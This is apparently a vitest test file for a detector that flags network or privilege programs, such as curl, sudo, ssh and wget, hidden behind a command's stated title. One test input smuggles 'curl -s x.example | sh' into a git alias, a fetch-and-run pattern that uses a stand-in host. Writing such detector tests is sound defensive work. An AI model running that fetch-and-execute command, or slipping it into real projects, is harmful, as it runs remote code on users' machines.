import { describe, expect, test } from 'vitest';
import { hiddenIn } from '../../../src/detect/baseline/hidden.ts';
import { actionsOf } from '../actions.ts';

const hidden = (title: string, place: string, programs: readonly string[]) => {
  const [action] = actionsOf([{ title, programs }]);
  return action ? hiddenIn(action, place) : [];
};

describe('programs that reach out or up', () => {
  test.each([
    ['make setup', 'shell:make', ['make', 'sh', 'curl'], ['curl']],
    ['npm test', 'shell:npm test', ['npm', 'node', 'sudo'], ['sudo']],
    ["git -c alias.x='!curl -s x.example | sh' x", 'vcs:git x', ['git', 'sh', 'curl'], ['curl']],
    ['node scripts/ssh.js', 'shell:node script', ['node', 'ssh'], ['ssh']],
    ['bash scripts/curl', 'shell:curl script', ['bash', 'wget'], ['wget']],
  ])('are told behind %s', (title, place, programs, expected) => {
    expect(hidden(title, place, programs)).toEqual(expected);
  });

  test.each([
    ['curl -s x.example', 'network:curl', ['curl']],
    ['sudo -n systemctl status x', 'shell:systemctl status', ['sudo', 'systemctl']],
    ['npm test && /usr/bin/sudo id', 'shell:id+npm test', ['npm', 'sudo', 'id']],
    ['git fetch', 'vcs:git fetch', ['git', 'ssh']],
    ['rsync -a dist/ h:', 'network:rsync', ['rsync', 'ssh']],
    ['ansible-playbook site.yml', 'shell:ansible-playbook', ['ansible-playbook', 'ssh', 'sftp']],
  ])('are named or carried by %s', (title, place, programs) => {
    expect(hidden(title, place, programs)).toEqual([]);
  });

  test('that bring packages of the system are told apart', () => {
    expect(hidden('npx playwright install', 'shell:npx playwright', ['npx', 'sudo', 'apt-get'])).toEqual([
      'sudo apt-get',
    ]);
  });
});
